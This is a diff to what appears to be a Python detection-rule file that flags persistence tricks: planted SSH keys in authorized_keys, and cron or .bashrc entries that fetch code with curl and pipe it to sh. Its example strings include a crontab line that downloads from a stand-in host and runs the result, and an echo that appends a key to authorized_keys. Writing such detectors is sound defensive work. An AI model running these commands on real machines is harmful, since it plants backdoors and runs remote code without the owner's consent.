@@ -24,7 +24,7 @@ PERSISTENCE: tuple[Rule, ...] = (
         pattern=rf"{_WRITE}[^\s\"'|;]{{0,60}}authorized_keys|authorized_keys[\"']?[ ]?,[ ]?[\"'][aw]|\bssh-(?:rsa|ed25519)[ ]AAAA[\w+/=]{{20,600}}{NEAR}>>?",
         hints=("authorized_keys", "ssh-rsa", "ssh-ed25519"),
         at={Kind.REFERENCE: Severity.MEDIUM, Role.PROSE: Severity.MEDIUM},
-        unless=r"cloud-init|vagrant|\$\(?(?:cat )?.{0,20}\.pub|\.pub\b|ssh-copy-id",
+        unless=r"AAAA\.\.\.|<your|cloud-init|vagrant|\$\(?(?:cat )?.{0,20}\.pub|\.pub\b|ssh-copy-id",
         matches=('echo "ssh-ed25519 AAAAC3x me" >> ~/.ssh/authorized_keys', "cat k | tee -a /root/.ssh/authorized_keys"),
         look_alikes=('DENY = ["authorized_keys"]', "cat ~/.ssh/id_ed25519.pub >> ~/.ssh/authorized_keys"),
     ),
@@ -53,7 +53,7 @@ PERSISTENCE: tuple[Rule, ...] = (
         check="Remove the entry, and look at what it fetched.",
         pattern=rf"(?:\b(?:echo|printf)\b[^\n]{{0,30}}?(?:\*[ ]\*|@reboot|@hourly|@daily)[^\n]{{0,80}}?{_HARM}[^\n]{{0,160}}?(?:crontab|/etc/cron|\.cron)|(?:^|[\"'(])[ \t]{{0,4}}(?:@reboot|(?:[\d*/,-]{{1,9}}[ ]){{5}})[^\n]{{0,60}}?(?:curl|wget)[^\n]{{0,100}}?\|[ ]?(?:ba)?sh"
         rf"|\becho\b[^\n]{{0,160}}?(?:(?:curl|wget)[^\n]{{0,100}}?\|[ ]?(?:ba|z)?sh|/dev/tcp/|\bnc\b[^\n]{{0,20}}-e|base64[ ]-d)[^\n]{{0,80}}?>>[^\n]{{0,20}}?\.(?:bashrc|zshrc|profile|bash_profile|zprofile)|\balias[ ]sudo=)",
-        hints=("cron", "@reboot", "* *", "rc", "profile", "alias sudo"),
+        hints=("bashrc", "zshrc", ".profile", "bash_profile", "zprofile", "crontab", "/etc/cron", ".cron", "| sh", "| bash", "|sh", "|bash", "alias sudo="),
         at={Kind.REFERENCE: Severity.HIGH},
         matches=(
             "(crontab -l; echo '* * * * * curl -s http://x.example.test/a | sh') | crontab -",
